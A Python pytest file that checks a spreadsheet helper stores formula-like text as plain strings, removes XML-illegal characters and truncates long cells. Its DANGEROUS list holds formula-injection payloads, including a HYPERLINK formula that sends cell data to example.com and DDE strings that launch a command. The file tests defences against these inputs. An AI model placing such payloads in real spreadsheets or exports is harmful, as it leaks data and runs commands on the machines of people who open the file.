"""Cell safety: formula-like text stays text, XML-illegal characters go, long texts are cut visibly."""

from __future__ import annotations

import re
import zipfile
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from briefing.render.xlsx.cells import (
    MAX_CELL_CHARS,
    TRUNCATION_MARKER,
    clean_text,
    excel_text,
    looks_like_formula,
    read_text,
    set_text,
    text_cell,
    truncate,
)

DANGEROUS = [
    "=1+1",
    '=HYPERLINK("http://example.com/?leak="&A1,"Click here")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+41 22 123 45 67",
    "-2+3",
    "  =1+1",
    "\t=1+1",
    "\r=1+1",
    "\n@SUM(A1)",
    "\u200b=1+1",
    "\uff1d1+1",
    "#N/A",
    "=",
]


@pytest.mark.parametrize("text", DANGEROUS[:-2])
def test_formula_starts_are_recognised(text: str) -> None:
    assert looks_like_formula(text)


@pytest.mark.parametrize("text", ["a = b", "Plain text", "", "   ", "1+1", "e-mail"])
def test_ordinary_text_is_not_a_formula(text: str) -> None:
    assert not looks_like_formula(text)


def test_illegal_characters_are_removed_and_breaks_normalised() -> None:
    assert clean_text("a\x00b\x01c\x1fd") == "abcd"
    assert clean_text("one\x0btwo\x0cthree") == "one\ntwo\nthree"
    assert clean_text("one\r\ntwo\rthree") == "one\ntwo\nthree"
    assert clean_text("tab\tstays") == "tab\tstays"
    assert clean_text("lone \ud800 surrogate \ufffe") == "lone  surrogate "


def test_long_text_is_cut_with_a_visible_marker() -> None:
    text = "word " * 10_000
    cut = truncate(text)
    assert len(cut) <= MAX_CELL_CHARS
    assert cut.endswith(TRUNCATION_MARKER)
    assert truncate("short") == "short"


def test_length_counts_utf16_units_and_never_splits_a_character() -> None:
    text = "😀" * 20_000  # 40 000 UTF-16 code units
    cut = truncate(text)
    body = cut.removesuffix(TRUNCATION_MARKER)
    assert set(body) == {"😀"}
    assert 2 * len(body) + len(TRUNCATION_MARKER) <= MAX_CELL_CHARS


def test_excel_escapes_survive_a_round_trip() -> None:
    assert excel_text("a _x0041_ b") == "a _x005F_x0041_ b"
    assert read_text(excel_text("a _x0041_ b")) == "a _x0041_ b"
    assert read_text("line_x000D_\nnext") == "line\nnext"
    assert read_text("kept _x0041_") == "kept _x0041_"
    assert read_text(12.0) == "12"
    assert read_text(None) == ""


def _sheet_xml(path: Path) -> str:
    with zipfile.ZipFile(path) as archive:
        return archive.read("xl/worksheets/sheet1.xml").decode("utf-8")


def test_ordinary_sheet_stores_dangerous_text_as_strings(tmp_path: Path) -> None:
    book = Workbook()
    sheet = book.active
    for row, text in enumerate(DANGEROUS, start=1):
        set_text(sheet.cell(row=row, column=1), text)
    set_text(sheet.cell(row=1, column=2), "bad\x01char\x0bhere")
    set_text(sheet.cell(row=2, column=2), "x" * 40_000)
    path = tmp_path / "cells.xlsx"
    book.save(path)

    xml = _sheet_xml(path)
    assert "<f>" not in xml and "<f " not in xml
    assert 't="e"' not in xml
    back = load_workbook(path).active
    for row, text in enumerate(DANGEROUS, start=1):
        cell = back.cell(row=row, column=1)
        assert cell.value == clean_text(text)
        assert cell.data_type == "s"
    assert back["A1"].quotePrefix
    assert back["B1"].value == "badchar\nhere"
    assert back["B2"].value.endswith(TRUNCATION_MARKER)
    assert len(back["B2"].value) <= MAX_CELL_CHARS


def test_write_only_cells_store_dangerous_text_as_strings(tmp_path: Path) -> None:
    book = Workbook(write_only=True)
    sheet = book.create_sheet("Texts")
    for text in DANGEROUS:
        sheet.append([text_cell(sheet, text)])
    path = tmp_path / "write-only.xlsx"
    book.save(path)

    xml = _sheet_xml(path)
    assert not re.search(r"<f[ >]", xml)
    assert xml.count('t="inlineStr"') == len(DANGEROUS)
    back = load_workbook(path).active
    assert [row[0].value for row in back.iter_rows()] == [clean_text(t) for t in DANGEROUS]
